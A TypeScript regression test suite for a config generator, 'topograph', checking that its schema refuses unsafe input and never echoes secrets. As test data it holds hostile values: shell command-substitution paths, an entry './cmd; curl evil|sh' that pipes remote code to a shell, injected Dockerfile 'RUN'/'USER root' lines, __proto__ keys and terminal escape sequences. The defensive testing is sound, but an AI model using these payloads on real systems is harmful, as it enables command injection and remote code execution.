/**
 * Input-safety regression tests (docs/security.md), at the input: every graph value
 * has a strict grammar (docs/topology-graph.md#grammar), numbers are bounded, no input crashes
 * topograph, secrets are never echoed, and `validate` reports what `synth` would refuse. Each test
 * uses only entry points older code had too, and failed there. See docs/security.md.
 */
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as jsYaml from 'js-yaml';
import { parse as parseYaml } from 'yaml';
import { validateAssertions } from '../src/specs/load';
import { expectRefused, problemsOf, scratch, shopWith, shopWithText, topograph } from './helpers/safety';
import { shopGraph, synth } from './helpers/shop';

describe('14.1 and 14.3 health.path has the grammar of an HTTP path', () => {
  it.each(['/$(touch${IFS}/tmp/x)', "/'+str(__import__('os').system('id'))+'", '/a"b', '/`id`', '/ space', '/a\nb'])('the schema refuses %j, naming the field', (value) => {
    const problems = problemsOf((g) => (g.services[0].health = { path: value }));
    expect(problems.map((p) => p.action)).toEqual(expect.arrayContaining([expect.stringContaining('services[catalog].health.path')]));
  });

  it("the assertions file's healthPath has the same grammar", () => {
    const load = validateAssertions({ healthPath: "/'+x+'", assertions: [] });
    expect(load.kind).toBe('invalid');
  });
});

describe('14.2 and 14.3 no value that could add a Dockerfile instruction is accepted', () => {
  it.each([
    ['source', (g: any) => (g.source = 'x\nRUN echo A'), 'source'],
    ['description', (g: any) => (g.services[0].description = 'd\nRUN echo A'), 'services[catalog].description'],
    ['label value', (g: any) => (g.services[0].labels = { 'com.example.team': 'v\nUSER root' }), 'services[catalog].labels'],
    ['CR in a label value', (g: any) => (g.services[0].labels = { 'com.example.team': 'v\rUSER root' }), 'services[catalog].labels'],
    ['U+2028 in a description', (g: any) => (g.description = 'a\u2028RUN b'), 'description'],
    ['build context with a newline', (g: any) => (g.services[0].build = { context: 'catalog\nRUN x' }), 'services[catalog].build.context'],
    ['bun entry with shell syntax', (g: any) => (g.services[2].entry = './cmd; curl evil|sh'), 'services[auth].entry'],
    ['go entry with shell syntax', (g: any) => Object.assign(g.services[2], { runtime: 'go', entry: './cmd; curl evil|sh' }), 'services[auth].entry'],
  ])('the schema refuses a %s', (_, edit, field) => {
    const problems = problemsOf(edit);
    expect(problems.map((p) => p.action)).toEqual(expect.arrayContaining([expect.stringContaining(field)]));
  });
});

describe('14.14 and 14.3 values YAML readers disagree on are refused', () => {
  const HOSTILE = 'del\u007f c1\u0090\u009b nel\u0085 ls\u2028 ps\u2029 ff\uffff fe\ufffe bom\ufeff';

  it('the schema refuses such values', () => {
    const problems = problemsOf((g) => (g.services[0].env = { GREETING: HOSTILE }));
    expect(problems.map((p) => p.action)).toEqual(expect.arrayContaining([expect.stringContaining('services[catalog].env')]));
  });
});

describe('14.15 valid or nearly valid input never crashes', () => {
  it.each([
    ['a service named constructor', (g: any) => {
      g.services[0].name = 'constructor';
      g.services[0].build = { context: 'catalog' };
      for (const e of g.edges) for (const k of ['from', 'to']) if (e[k] === 'catalog') e[k] = 'constructor';
    }],
    ['a topology named constructor', (g: any) => (g.name = 'constructor')],
    ['a memory limit of the wrong type next to a reservation', (g: any) => (g.services[0].resources = { limits: { memory: true }, reservations: { memory: '1Gi' } })],
    ['a CPU limit of the wrong type next to a reservation', (g: any) => (g.services[0].resources = { limits: { cpu: { a: 1 } }, reservations: { cpu: 1 } })],
  ])('%s: a clear error, exit 1', (_, edit) => {
    const dir = shopWith(edit);
    expectRefused(topograph(['synth', '--out', 'out'], dir), dir);
  });

  it('env keys named like Object.prototype members are ordinary variables in every target', () => {
    const graph = shopGraph();
    graph.services[0].env = { toString: 'a', constructor: 'b', valueOf: 'c', hasOwnProperty: 'd' };
    const { files } = synth(graph);
    const compose = parseYaml(files['docker/docker-compose.yml']);
    expect(compose.services.catalog.environment).toEqual(expect.objectContaining({ toString: 'a', constructor: 'b', valueOf: 'c', hasOwnProperty: 'd' }));
    const configMap = (jsYaml.loadAll(files['kubernetes/20-services.yaml']) as any[]).find((o) => o?.kind === 'ConfigMap' && o.metadata.name === 'catalog-config');
    expect(configMap.data).toEqual(expect.objectContaining({ toString: 'a', constructor: 'b', valueOf: 'c', hasOwnProperty: 'd' }));
  });

  it.each([
    ['env', (t: string) => t.replace('"env": {\n        "LOG_LEVEL": "info"\n      }', '"env": {\n        "__proto__": "x"\n      }')],
    ['labels', (t: string) => t.replace('"env": {', '"labels": { "__proto__": "y" },\n      "env": {')],
    ['secrets', (t: string) => t.replace('"secrets": [\n        "JWT_SECRET"\n      ]', '"secrets": ["JWT_SECRET", "__proto__"]')],
  ])('a __proto__ key in %s is refused, never dropped silently (and never lands in .env.example)', (_, edit) => {
    const dir = shopWithText(edit);
    const result = topograph(['synth', '--out', 'out'], dir);
    expectRefused(result, dir);
    expect(result.stderr).toContain('__proto__');
  });

  it('nesting 20000 levels deep in a graph with comments is a clear error', () => {
    const dir = shopWithText((t) => `// deep\n${t.replace('"name": "shop"', `"name": "shop", "x": ${'['.repeat(20000)}${']'.repeat(20000)}`)}`);
    expectRefused(topograph(['synth', '--out', 'out'], dir), dir);
  });

  it('nesting 20000 levels deep in specs/assertions.json is a clear error', () => {
    const dir = scratch();
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'api', version: '1.0.0', dependencies: { express: '4' } }));
    fs.mkdirSync(path.join(dir, 'specs'));
    fs.writeFileSync(path.join(dir, 'specs', 'assertions.json'), `// deep\n{"assertions": [], "x": ${'['.repeat(20000)}${']'.repeat(20000)}}`);
    const result = topograph(['deploy'], dir);
    expect(result.code).toBe(1);
    expect(result.stdout + result.stderr).not.toContain('failed unexpectedly');
    expect(result.stdout + result.stderr).toContain('specs/assertions.json nests deeper than 64 levels');
  });

  it('a graph path that is a device is refused without reading it', () => {
    const dir = scratch();
    const result = topograph(['validate', '/dev/zero'], dir, 20_000);
    expect({ code: result.code, signal: result.signal }).toEqual({ code: 1, signal: null });
    expect(result.stderr).toContain('not a regular file');
  });

  it('a graph path that is a FIFO is refused without blocking', () => {
    const dir = scratch();
    const fifo = path.join(dir, 'topology-graph.json');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    const result = topograph(['validate', fifo], dir, 20_000);
    expect({ code: result.code, signal: result.signal }).toEqual({ code: 1, signal: null });
    expect(result.stderr).toContain('not a regular file');
  });
});

describe('14.16 numbers are bounded to what every target accepts', () => {
  it.each([
    ['cpu 1e21', (g: any) => (g.services[0].resources = { limits: { cpu: 1e21 } }), 'resources.limits.cpu'],
    ['cpu "1e+24m"', (g: any) => (g.services[0].resources = { limits: { cpu: '1000000000000000000000000m' } }), 'resources.limits.cpu'],
    ['cpu below a millicore', (g: any) => (g.services[0].resources = { limits: { cpu: 0.0001 } }), 'resources.limits.cpu'],
    ['memory 1e300', (g: any) => (g.services[0].resources = { limits: { memory: 1e300 } }), 'resources.limits.memory'],
    ['memory below what Docker accepts', (g: any) => (g.services[0].resources = { limits: { memory: '1Mi' } }), 'resources.limits.memory'],
    ['health timeout 0s', (g: any) => (g.services[0].health = { timeout: '0s' }), 'health.timeout'],
    ['health interval 0s', (g: any) => (g.services[0].health = { interval: '0s' }), 'health.interval'],
    ['a huge duration', (g: any) => (g.services[0].health = { startPeriod: '99999999999999999999h' }), 'health.startPeriod'],
    ['a huge storage size', (g: any) => (g.dependencies[0].storage = '99999999999Pi'), 'storage'],
  ])('the schema refuses %s', (_, edit, field) => {
    expect(problemsOf(edit).map((p) => p.action)).toEqual(expect.arrayContaining([expect.stringContaining(field)]));
  });

  it('compose and Kubernetes write the same amounts and timings at the bounds', () => {
    const graph = shopGraph();
    graph.services[0].resources = { limits: { cpu: 1024, memory: '1Pi' }, reservations: { cpu: 0.001, memory: '6Mi' } };
    graph.services[0].health = { path: '/health', interval: '1h', timeout: '1s', startPeriod: '0s' };
    const { files } = synth(graph);
    const service = parseYaml(files['docker/docker-compose.yml']).services.catalog;
    expect(service.deploy.resources).toEqual({ limits: { cpus: '1024', memory: '1P' }, reservations: { cpus: '0.001', memory: '6M' } });
    expect(service.healthcheck).toEqual(expect.objectContaining({ interval: '1h', timeout: '1s', start_period: '0s' }));
    const deployment = (jsYaml.loadAll(files['kubernetes/20-services.yaml']) as any[]).find((o) => o?.kind === 'Deployment' && o.metadata.name === 'catalog');
    const container = deployment.spec.template.spec.containers[0];
    expect(container.resources).toEqual({ limits: { cpu: '1024', memory: '1Pi' }, requests: { cpu: '1m', memory: '6Mi' } });
    expect(container.readinessProbe).toEqual(expect.objectContaining({ periodSeconds: 3600, timeoutSeconds: 1 }));
  });
});

describe('14.17 and 15.11 secrets are never echoed; validate reports what synth refuses', () => {
  it('a secret value given where its name belongs is not printed, in text or --json', () => {
    const dir = shopWith((g) => (g.services[0].secrets = { JWT_SECRET: 's3cr3t' }));
    const text = topograph(['synth', '--out', 'out'], dir);
    expectRefused(text, dir);
    expect(text.stderr).not.toContain('s3cr3t');
    const json = topograph(['synth', '--out', 'out', '--json'], dir);
    expect(json.code).toBe(1);
    expect(json.stdout + json.stderr).not.toContain('s3cr3t');
    expect(JSON.parse(json.stdout).problems.length).toBeGreaterThan(0);
  });

  it('an env value of the wrong type is not printed either', () => {
    const dir = shopWith((g) => (g.services[0].env = { API_TOKEN: 123456789 }));
    const result = topograph(['validate', '--json'], dir);
    expect(result.code).toBe(1);
    expect(result.stdout).not.toContain('123456789');
  });

  it.each([
    ['DB_PASSWORD', 'hunter2'],
    ['DB_PASS', 'hunter2'],
    ['AUTH', 'hunter2'],
    ['STRIPE_KEY', 'sk_live_abc'],
    ['GITHUB_TOKEN', 'ghp_abc'],
    ['JWT_SECRET', '${JWT_SECRET}'],
    ['UPSTREAM_HEADER', 'Bearer abc.def'],
    ['UPSTREAM_URL', 'https://user:hunter2@example.com/'],
  ])('validate refuses a plain %s, naming the graph field to move it to, and never the value', (name, value) => {
    const dir = shopWith((g) => (g.services[0].env = { [name]: value }));
    const result = topograph(['validate'], dir);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`Move ${name} from services[catalog].env to services[catalog].secrets`);
    expect(result.stderr).not.toContain(value);
    expect(result.stderr).not.toContain('docker-compose.yml');
  });

  it('validate reports what only the rendered files show, as synth does (an unpinned image)', () => {
    const dir = shopWith((g) => (g.dependencies[0].image = 'postgres'));
    const validate = topograph(['validate'], dir);
    const synthResult = topograph(['synth', '--out', 'out'], dir);
    expect(validate.code).toBe(1);
    expect(synthResult.code).toBe(1);
    expect(validate.stderr).toContain('[compose-unpinned-image]');
  });

  it('no terminal escape sequence in user text reaches the terminal raw', () => {
    const dir = shopWith((g) => {
      g.services[0].description = '\u001b]0;pwned\u0007\u001b[2J';
      g['\u001b[31mcolour'] = 1;
      g.services[1].labels = { 'com.x': '\u009b31m' };
    });
    const result = topograph(['synth', '--out', 'out'], dir);
    expectRefused(result, dir);
    expect(result.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(result.stderr).toContain('\\u001b');
  });

  it('lint prints a hostile file\'s text escaped', () => {
    const dir = scratch();
    fs.writeFileSync(path.join(dir, 'docker-compose.yml'), 'services:\n  "web\\e[2J\\e]0;x\\a":\n    image: "nginx\\e[31m"\n');
    const result = topograph(['lint', 'docker-compose.yml'], dir);
    expect(result.code).toBe(1);
    expect(result.stdout + result.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });
});

